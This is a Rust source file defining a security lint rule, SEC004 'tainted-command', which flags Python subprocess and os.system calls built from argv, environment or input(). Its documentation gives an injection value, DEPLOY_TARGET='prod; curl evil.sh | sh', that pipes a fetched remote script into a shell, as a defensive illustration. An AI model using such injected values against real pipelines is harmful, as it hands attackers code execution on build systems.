use crate::index::Taint;
use crate::rules::helpers::{command_arg, exec_args, is_exec_or_spawn};
use crate::rules::{Category, Checker, RuleMeta, Severity};

pub static RULE: RuleMeta = RuleMeta {
    id: "SEC004",
    name: "tainted-command",
    category: Category::Security,
    severity: Severity::High,
    summary: "Command built from `sys.argv`, the environment or `input()`",
    peers: &["semgrep:dangerous-subprocess-use-tainted-env-args"],
    fixable: false,
    check,
    docs: r#"
## What it does
Follows values from `sys.argv`, `argparse` results, `os.environ` /
`os.getenv` and `input()` through assignments, f-strings, concatenation,
`%`/`.format()` and wrapping calls within a function, and flags them when they
reach a command: `subprocess.*`, `os.system`, `os.popen`, `os.exec*`,
`os.spawn*`, `asyncio.create_subprocess_*`, paramiko `exec_command`. Argument
lists count too (`["git", "checkout", sys.argv[1]]`). `shlex.quote(...)`
clears the taint.

## Why is this bad?
Whoever controls the command line, the CI variables or the terminal controls
the command: `DEPLOY_TARGET='prod; curl evil.sh | sh'` in a pipeline variable
is enough. Even without a shell, an argument starting with `-` becomes an
option of the program.

## Example
```python
target = os.environ["DEPLOY_TARGET"]
subprocess.run(f"./deploy.sh {target}", shell=True, check=True)
```

Use instead:
```python
target = os.environ["DEPLOY_TARGET"]
if target not in {"staging", "production"}:
    sys.exit(f"unknown target {target!r}")
subprocess.run(["./deploy.sh", "--", target], check=True)
```

## How to fix
Validate external values against an allow-list, pass an argument list
without a shell, and separate operands with `--`.
"#,
};

fn sources(t: Taint) -> String {
    let mut out = Vec::new();
    if t.has(Taint::ARGV) {
        out.push("the command line");
    }
    if t.has(Taint::ENV) {
        out.push("the environment");
    }
    if t.has(Taint::INPUT) {
        out.push("user input");
    }
    out.join(" and ")
}

fn check(cx: &mut Checker) {
    for call in cx.calls() {
        let q = call.qualified.as_str();
        let taint = if is_exec_or_spawn(q) {
            exec_args(call).fold(Taint::default(), |t, a| t.union(a.value.taint()))
        } else {
            match command_arg(call) {
                Some(a) => a.value.taint(),
                None => continue,
            }
        };
        if !taint.is_external() {
            continue;
        }
        cx.report(
            call.callee_range,
            format!("`{q}` runs a command built from {}", sources(taint)),
        );
    }
}
